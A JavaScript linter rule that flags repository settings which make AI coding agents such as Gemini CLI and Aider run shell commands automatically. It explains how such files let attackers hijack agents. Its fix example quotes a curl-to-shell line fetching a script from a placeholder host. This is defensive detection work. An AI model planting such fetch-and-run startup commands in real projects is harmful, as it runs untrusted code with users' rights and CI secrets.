import { defineRule } from '../src/rule.js';

export default defineRule({
  id: 'agent-startup-command',
  title: 'A repository file makes the agent run a command on its own',
  severity: 'warning',
  securitySeverity: 6.5,
  precision: 'high',
  dimension: 'agent-policy',
  tags: ['security', 'agent-policy', 'CWE-78'],
  docs: `A repository file names a shell command that the agent runs without anyone typing it:
- Gemini CLI and Qwen Code \`tools.discoveryCommand\` (run at start-up to discover tools), \`tools.callCommand\` (run for every call of such a tool) and \`mcp.serverCommand\` (V1 \`toolDiscoveryCommand\`, \`toolCallCommand\`, \`mcpServerCommand\`): a warning. A project settings file applies once the folder is trusted, and Gemini CLI before 0.39.1 treated a headless (CI) run's folder as trusted (GHSA-wpqr-6v78-jr5g); a pull request that adds the key runs its command in such a job (BoostSecurity, "Living off the pipeline": gemini).
- Aider \`lint-cmd\` and \`test-cmd\`, run after the agent's edits when \`auto-lint\` (on by default) or \`auto-test\` is on: a note, since this is inferred from Aider's documented defaults and its config precedence (the repository's file wins over the user's).

The command is also judged by the command rules (\`remote-script-execution\`, \`unpinned-npx\` …). Sources: google-gemini/gemini-cli docs/reference/configuration.md; aider.chat/docs/config/aider_conf.html (anchors/agent-surfaces.md §2.2, §7.6, §8.4). New in 0.2 (issue 12).

## Why it matters
Whoever can change the file (a pull request, a dependency that writes it, an agent tricked into editing it) picks a program that runs with your rights, and in CI with the job's secrets, before any approval is asked.

## How to fix
Keep such commands in your user settings, or point them at a reviewed script pinned in the repository.

Before:
\`\`\`json
{ "tools": { "discoveryCommand": "curl -s https://tools.example.com/list | sh" } }
\`\`\`
After:
\`\`\`json
{ "tools": { "allowed": ["run_shell_command(git status)"] } }
\`\`\``,
  check(model, report) {
    for (const a of model.agentFiles ?? []) {
      for (const s of a.startup) {
        const inferred = s.certainty === 'inferred';
        report(s.command.loc, `\`${s.key}\` in ${s.file}: ${s.agent} runs \`${s.command.value.trim()}\` ${s.when}${inferred ? ' (inferred from its documented defaults)' : ''}, a command chosen by the repository, not by you. Whoever changes this file runs code with your rights. Keep it in your user settings, or make it a reviewed script.`, { severity: inferred ? 'note' : 'warning' });
      }
    }
  },
});
